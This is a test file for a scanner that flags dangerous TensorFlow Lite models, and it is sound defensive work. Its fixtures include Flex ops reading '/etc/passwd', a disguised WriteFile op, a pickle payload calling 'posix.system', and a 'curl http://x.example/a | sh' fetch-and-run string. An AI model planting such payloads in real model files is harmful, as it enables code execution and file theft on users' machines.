import { describe, expect, it } from "vitest";
import { concat, u32, zeros } from "../../builders/bytes.js";
import { flatbuffer, i32, ints, list, table } from "../../builders/flatbuffer.js";
import { scanBytes, told } from "../../builders/scan.js";
import { flexOptions, stringTensor, type TfliteSpec, tflite } from "../../builders/tflite.js";
import { zip } from "../../builders/zip.js";

async function scan(spec: TfliteSpec): Promise<string[]> {
  return told(await scanBytes("model.tflite", tflite(spec)));
}

const FLOAT = 0;
const STRING = 5;
const path = {
  tensors: [{ name: "path", shape: [1], type: STRING, buffer: 1 }],
  buffers: [stringTensor("/etc/passwd")],
};
const flex = (name: string, options = flexOptions(name)) => ({ name: `Flex${name}`, inputs: [0], options });

describe("the TensorFlow Lite scanner", () => {
  it("is silent on an ordinary model and tells what it holds", async () => {
    const tensors = [{ name: "w", shape: [2, 3], type: FLOAT, buffer: 1 }];
    const report = await scanBytes(
      "model.tflite",
      tflite({ description: "MLIR Converted.", tensors, buffers: [zeros(24)] }),
    );
    expect(told(report)).toEqual([]);
    expect(report.metadata).toMatchObject({ producer: "MLIR Converted.", subgraphs: 1 });
  });

  it("tells a Flex op that acts on a path of the model, with the path", async () => {
    const report = await scanBytes("model.tflite", tflite({ ...path, custom: [flex("ReadFile")] }));
    expect(report.findings[0]).toMatchObject({ severity: "high", rule: "tflite/flex-op" });
    expect(report.findings[0]?.message).toContain('FlexReadFile("/etc/passwd")');
  });

  it("only notes the same op when its path comes from the caller", async () => {
    const tensors = [{ name: "path", shape: [1], type: STRING, buffer: 0 }];
    expect(await scan({ tensors, inputs: [0], custom: [flex("ReadFile")] })).toEqual(["low tflite/flex-op"]);
    expect(await scan({ tensors, inputs: [0], custom: [flex("SaveV2")] })).toEqual(["info tflite/flex-delegate"]);
  });

  it("is wary of a path that other operators compute", async () => {
    const tensors = [{ name: "path", shape: [1], type: STRING, buffer: 0 }];
    expect(await scan({ tensors, custom: [flex("ReadFile")] })).toEqual(["medium tflite/flex-op"]);
  });

  it("sees a path in the attributes of the node", async () => {
    const printing = (stream: string) => flex("PrintV2", flexOptions("PrintV2", "PrintV2", { output_stream: stream }));
    expect(await scan({ ...path, custom: [printing("file:///tmp/x")] })).toEqual(["high tflite/flex-op"]);
    expect(await scan({ ...path, custom: [printing("stderr")] })).toEqual(["info tflite/flex-delegate"]);
  });

  it("takes an op that TensorFlow does not have for a custom one", async () => {
    expect(await scan({ ...path, custom: [flex("ShellExecute")] })).toEqual(["medium tflite/flex-op"]);
  });

  it("takes Python in a graph for critical wherever its operands come from", async () => {
    const tensors = [{ name: "x", shape: [1], type: FLOAT, buffer: 0 }];
    expect(await scan({ tensors, custom: [flex("EagerPyFunc")] })).toEqual(["critical tflite/flex-op"]);
  });

  it("lists Flex ops that only compute", async () => {
    expect(await scan({ ...path, custom: [flex("Erf"), flex("StridedSlice")] })).toEqual(["info tflite/flex-delegate"]);
  });

  it("judges the op in the options, which is the one that runs", async () => {
    const disguised = flex("Erf", flexOptions("Erf", "WriteFile"));
    expect((await scan({ ...path, custom: [disguised] })).sort()).toEqual([
      "critical tflite/flex-op",
      "high tflite/flex-mismatch",
      "info tflite/flex-delegate",
    ]);
  });

  it("does not pass options that are no node definition", async () => {
    expect(await scan({ ...path, custom: [flex("Erf", zeros(40))] })).toContain("medium analysis/malformed");
  });

  it("judges operators that are listed and never used", async () => {
    expect(await scan({ custom: [{ name: "FlexEagerPyFunc" }], operators: [] })).toEqual(["critical tflite/flex-op"]);
  });

  it("tells custom operators, but not those of well-known libraries", async () => {
    expect(await scan({ custom: [{ name: "EvilLoader" }] })).toEqual(["medium tflite/custom-op"]);
    expect(
      await scan({ custom: [{ name: "TFLite_Detection_PostProcess" }, { name: "TFText>FastWordpiece" }] }),
    ).toEqual(["info tflite/known-custom-op"]);
  });

  it.each([
    ["an operator code", { operators: [table({ 0: i32(7) })] }],
    ["a tensor", { operators: [table({ 0: i32(0), 1: ints([9]) })], custom: [{ name: "Roll" }] }],
    ["a buffer", { tensors: [{ name: "w", shape: [1], type: FLOAT, buffer: 5 }] }],
    ["the buffer of metadata", { metadata: [{ name: "x", buffer: 9 }] }],
    ["a tensor type", { tensors: [{ name: "w", shape: [1], type: 99, buffer: 0 }] }],
  ])("tells %s that does not exist", async (_what, spec) => {
    expect(await scan(spec)).toContain("medium tflite/bad-index");
  });

  it("takes an operand that is left out for what it is", async () => {
    expect(await scan({ operators: [table({ 0: i32(0), 1: ints([-1]) })], custom: [{ name: "Roll" }] })).toEqual([
      "info tflite/known-custom-op",
    ]);
  });

  it("tells a buffer outside the file, wherever it is said to lie", async () => {
    expect(await scan({ buffers: [{ offset: 1n << 40n, size: 16 }] })).toEqual(["medium tflite/buffer-outside"]);
    expect(await scan({ buffers: [{ offset: 64, size: 16 }] })).toEqual([]);
  });

  it.each([
    ["a product beyond 63 bits", [65536, 65536, 65536, 65536], "CVE-2026-42627"],
    ["a negative dimension", [-5], undefined],
    ["more dimensions than any operator takes", Array.from({ length: 100 }, () => 1), "CVE-2022-23558"],
    ["a shape that its data does not fill", [3], undefined],
  ])("tells %s", async (_what, shape, advisory) => {
    const spec = { tensors: [{ name: "w", shape, type: FLOAT, buffer: 1 }], buffers: [zeros(8)] };
    const report = await scanBytes("model.tflite", tflite(spec));
    expect(told(report)).toEqual(["medium tflite/tensor-size"]);
    if (advisory) expect(report.findings[0]?.references).toContain(advisory);
  });

  it("tells a sparsity that names a dimension the tensor does not have", async () => {
    const levels = list([table({}), table({})]);
    const sparse = (order: number[]) => ({
      tensors: [{ name: "w", shape: [2, 2], type: FLOAT, buffer: 1, sparsity: table({ 0: ints(order), 2: levels }) }],
      buffers: [zeros(4)],
    });
    expect(await scan(sparse([0, 1]))).toEqual([]);
    expect(await scan(sparse([0, 9]))).toEqual(["medium tflite/sparsity"]);
    expect(await scan(sparse([0]))).toEqual(["medium tflite/sparsity"]);
  });

  it("tells weights that are kept outside the model's folder", async () => {
    expect(await scan({ externalFiles: ["weights.bin"] })).toEqual([]);
    expect(await scan({ externalFiles: ["../../weights.bin"] })).toEqual(["medium tflite/external-file"]);
    expect(await scan({ externalFiles: ["https://example.org/w"] })).toEqual(["medium tflite/external-file"]);
  });

  it("looks into buffers for programs and archives", async () => {
    const elf = concat([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], zeros(8), [2, 0, 0x3e, 0, 1, 0, 0, 0], zeros(40));
    expect(await scan({ buffers: [elf] })).toEqual(["high weights/embedded-content"]);
    const pickle = concat([0x80, 2], "cposix\nsystem\nX\x02\0\0\0id\x85R.");
    const archive = zip({
      entries: [
        { name: "labels.txt", data: "cat" },
        { name: "model.pkl", data: pickle },
      ],
    });
    const report = await scanBytes("model.tflite", tflite({ buffers: [archive, zeros(128)] }));
    expect(report.findings[0]).toMatchObject({ severity: "critical", member: ["buffer 1", "model.pkl"] });
  });

  it("reads what the model says about itself", async () => {
    expect(await scan({ description: "curl http://x.example/a | sh" })).toEqual(["medium config/command-text"]);
    const about = flatbuffer(table({ 0: "cats", 1: "curl http://x.example/a | sh" }), "M001");
    const report = await scanBytes(
      "model.tflite",
      tflite({ buffers: [about], metadata: [{ name: "TFLITE_METADATA", buffer: 1 }] }),
    );
    expect(told(report)).toEqual(["medium config/command-text"]);
    expect(report.metadata).toMatchObject({ name: "cats" });
  });

  it("never calls a prefix of a model clean", async () => {
    const whole = tflite({ ...path, custom: [flex("ReadFile")] });
    for (let length = 8; length < whole.length; length += 7) {
      const report = await scanBytes("model.tflite", whole.subarray(0, length));
      expect(
        told(report).some((one) => /^(?:medium|high)/.test(one)),
        `${length} bytes`,
      ).toBe(true);
    }
  });

  it("stops at a pointer that leads outside", async () => {
    const bytes = concat(u32(0xfffffff0), "TFL3", zeros(64));
    expect(told(await scanBytes("model.tflite", bytes))).toEqual(["medium analysis/malformed"]);
  });
});
